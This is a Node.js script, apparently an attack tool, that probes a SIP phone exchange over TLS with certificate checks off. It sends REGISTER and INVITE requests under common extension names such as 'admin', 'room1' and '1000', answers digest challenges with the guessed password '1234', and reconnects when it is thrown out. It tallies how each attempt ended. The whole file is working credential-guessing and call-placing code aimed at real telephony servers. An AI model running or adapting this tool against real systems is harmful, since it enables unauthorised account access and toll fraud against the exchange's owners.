/**
 * Who tries accounts at an exchange, one after the other, as the tools for it do: connects by TLS, asks to register or to call under
 * names that people use, with passwords that people use, and connects again when it is thrown out. Prints how each try ended.
 *
 *     node scanner.mjs <host> <port> <tries>
 */
import { createHash } from 'node:crypto'
import { connect } from 'node:tls'

const [host = '', port = '', tries = '0'] = process.argv.slice(2)
/** @type {Record<string, number>} */
const ended = {}
/** @type {import('node:tls').TLSSocket | undefined} */
let socket

const open = () =>
  new Promise(resolve => {
    const opening = connect({ host, port: Number(port), rejectUnauthorized: false })
    opening.setTimeout(3_000, () => opening.destroy())
    opening.on('error', () => {})
    opening.on('close', () => resolve(undefined))
    opening.on('secureConnect', () => resolve(opening))
  })

/** @param {string} request */
const ask = request =>
  new Promise(resolve => {
    const from = socket
    if (from === undefined) return resolve('refused')
    const done = (/** @type {string} */ how) => {
      from.removeAllListeners('data')
      from.removeAllListeners('close')
      resolve(how)
    }
    from.on('data', bytes => {
      const last = String(bytes).match(/SIP\/2\.0 ([2-6]\d\d).*/s)
      if (last) done(last[0])
    })
    from.on('close', () => {
      socket = undefined
      done('thrown out')
    })
    from.write(request)
  })

/** @param {number} number @param {string} answered */
function authorization(number, answered) {
  const [, realm] = /realm="([^"]*)"/.exec(answered) ?? []
  const [, nonce] = /nonce="([^"]*)"/.exec(answered) ?? []
  if (nonce === undefined) return ''
  const md5 = (/** @type {string} */ text) => createHash('md5').update(text).digest('hex')
  const response = md5(`${md5(`${number}:${realm}:1234`)}:${nonce}:${md5(`REGISTER:sip:${host}`)}`)
  return `Authorization: Digest username="${number}", realm="${realm}", nonce="${nonce}", uri="sip:${host}", response="${response}"\r\n`
}

for (let number = 0; number < Number(tries); number++) {
  socket ??= await open()
  const user = ['room1', 'room2', '100', 'admin', '1000'][number % 5]
  const method = number % 2 === 0 ? 'REGISTER' : 'INVITE'
  const request = (/** @type {string} */ more) =>
    [
      `${method} sip:${method === 'INVITE' ? '0015551234567@' : ''}${host} SIP/2.0`,
      `Via: SIP/2.0/TLS scan;branch=z9hG4bK${number}${more.length};rport`,
      `From: <sip:${user}@${host}>;tag=${number}`,
      `To: <sip:${user}@${host}>`,
      `Call-ID: scan-${number}`,
      `CSeq: ${more === '' ? 1 : 2} ${method}`,
      `Contact: <sip:${user}@scan>`,
      `${more}Content-Length: 0`,
      '',
      '',
    ].join('\r\n')
  const first = await ask(request(''))
  // One in three goes on to guess a password.
  const more = number % 3 === 0 ? authorization(number, first) : ''
  const last = more === '' ? first : await ask(request(more))
  const how = last.match(/^SIP\/2\.0 (\d+)/)?.[1] ?? last
  ended[how] = (ended[how] ?? 0) + 1
}
process.stdout.write(`${JSON.stringify(ended)}\n`)
process.exit(0)
